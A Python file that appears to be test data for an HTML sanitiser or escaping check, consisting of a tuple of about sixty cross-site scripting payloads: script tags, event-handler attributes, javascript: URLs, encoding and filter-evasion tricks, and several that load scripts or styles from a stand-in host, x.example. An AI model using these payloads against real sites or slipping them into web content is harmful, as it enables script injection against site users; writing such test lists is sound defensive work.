"""Texts of hostile pages: what would run in a browser if anything forgot to escape it. More than fifty, each written for its own hole."""

PAYLOADS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<link rel=stylesheet href=//x.example/a.css>", "<style>@import'//x.example/a.css'</style>", "<base href=//x.example/>", "<template><script>alert(1)</script></template>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--<img src=--><img src=x onerror=alert(1)//>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>", "<x contenteditable onblur=alert(1)>x</x>", "<div style=background:url(javascript:alert(1))>", "<div hx-get=//x.example hx-trigger=load>",
    "<div data-hx-on:load=alert(1)>", "<button hx-on:click=alert(1)>x</button>", "{{ 7|add:7 }}<script>alert(1)</script>", "{% load x %}<script>alert(1)</script>", "${alert(1)}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>", "&#60;script&#62;alert(1)<script>alert(1)</script>", "%3Cscript%3Ealert(1)<script>alert(1)</script>", "\u003cscript>alert(1)\u003c/script>",
    "＜script＞alert(1)<script>alert(1)</script>", "<script\u2028>alert(1)</script>", "<ScRiPt\x0b>alert(1)</ScRiPt>", "<a id=stelle name=s1><script>alert(1)</script>", "\u202e<script>alert(1)</script>", "<portal src=//x.example>",
    "<mark id=stelle onfocus=alert(1) tabindex=1 autofocus>", "<script type=module>import'//x.example/a.js'</script>",
)  # fmt: skip
